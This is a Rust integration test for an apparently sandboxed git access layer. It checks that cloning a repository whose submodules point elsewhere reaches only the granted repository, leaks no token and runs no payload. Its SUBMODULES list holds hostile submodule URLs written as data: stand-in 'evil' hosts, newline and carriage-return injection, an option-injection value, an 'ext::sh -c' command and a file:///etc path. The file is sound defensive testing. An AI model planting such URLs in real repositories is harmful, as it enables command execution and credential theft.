// SPDX-License-Identifier: Apache-2.0
//! A granted repository whose submodules name other places, cloned by a real git whose credential
//! helper offers its placeholder to whoever asks: only the granted repository is reached.

use crate::stage::{Stage, at_each_level};
use std::process::Command;
use torno_stage::world::git::{GIT, reference};

/// Where each submodule says that it lives. The first is where it may.
const SUBMODULES: &[(&str, &str)] = &[
    ("fair", "https://git.torno.test/acme/app"),
    ("private", "https://git.torno.test/acme/secret-plans"),
    ("relative", "../secret-plans"),
    ("above", "../../../acme/secret-plans"),
    ("evil", "https://evil.torno.test/acme/app"),
    (
        "evil-user",
        "https://git.torno.test@evil.torno.test/acme/app",
    ),
    ("evil-plain", "http://evil.torno.test/acme/app"),
    ("other", "https://other.torno.test/acme/app"),
    ("ssh", "git@git.torno.test:acme/secret-plans"),
    ("ssh-evil", "ssh://git@evil.torno.test/acme/app"),
    (
        "break",
        "https://git.torno.test/acme/app\\nhost=evil.torno.test",
    ),
    (
        "return",
        "https://git.torno.test/acme/app\r.evil.torno.test",
    ),
    ("option", "-u./payload"),
    ("ext", "ext::sh -c touch%20/tmp/payload"),
    ("file", "file:///etc"),
];

const HELPER: &str = r#"!f() { echo username=agent; echo "password=$GIT_TOKEN"; }; f"#;

/// Gives the granted repository a commit with these submodules.
fn furnish(stage: &Stage) {
    let bare = stage.world.repositories().join("acme/app.git");
    let head = reference(&stage.world.repositories(), "acme/app", "refs/heads/main").unwrap();
    let work = tempfile::tempdir().unwrap();
    let git = |arguments: &[&str]| {
        let output = Command::new(GIT)
            .current_dir(work.path())
            .env_clear()
            .env("HOME", work.path())
            .args(["-c", "user.name=a", "-c", "user.email=a@torno.test"])
            .args(arguments)
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(output.status.success(), "{arguments:?}: {said}");
    };
    git(&["clone", "--quiet", bare.to_str().unwrap(), "."]);
    let mut modules = String::new();
    for (name, url) in SUBMODULES {
        modules += &format!("[submodule \"{name}\"]\n\tpath = {name}\n\turl = \"{url}\"\n");
        let link = format!("160000,{head},{name}");
        git(&["update-index", "--add", "--cacheinfo", &link]);
    }
    std::fs::write(work.path().join(".gitmodules"), modules).unwrap();
    git(&["add", ".gitmodules"]);
    git(&["commit", "--quiet", "-m", "submodules"]);
    git(&["push", "--quiet", "origin", "HEAD:main"]);
}

// ATTACK: 114, 116
#[test]
fn a_submodule_brings_no_client_and_no_credential_to_another_place() {
    at_each_level("submodules", |stage, level| {
        furnish(stage);
        let names: Vec<&str> = SUBMODULES.iter().map(|(name, _)| *name).collect();
        let script = format!(
            "set -e; export GIT_TERMINAL_PROMPT=0
            git config --global credential.helper '{HELPER}'
            git clone --quiet https://git.torno.test/acme/app work; cd work; set +e
            for name in {}; do
                git submodule --quiet update --init \"$name\" >/dev/null 2>&1 </dev/null
                test -e \"$name/README\" && echo \"$name came\" || echo \"$name not\"
            done
            test -e /tmp/payload && echo payload ran",
            names.join(" ")
        );
        let ran = stage.shell(level, &script);
        let mut right = vec!["fair came".to_owned()];
        right.extend(names.iter().skip(1).map(|name| format!("{name} not")));
        assert_eq!(ran.stdout.lines().collect::<Vec<_>>(), right, "{ran:?}");
        let world = &stage.world;
        assert!(world.evil.journal.connections().is_empty());
        assert!(world.other.journal.requests().iter().all(|r| {
            let bytes = format!("{r:?}");
            !bytes.contains(&world.git_token) && r.header("authorization").is_none()
        }));
        let asked = world.git.journal.requests();
        assert!(!asked.is_empty());
        assert!(
            asked.iter().all(|r| r.target.starts_with("/acme/app")),
            "{asked:?}"
        );
    });
}
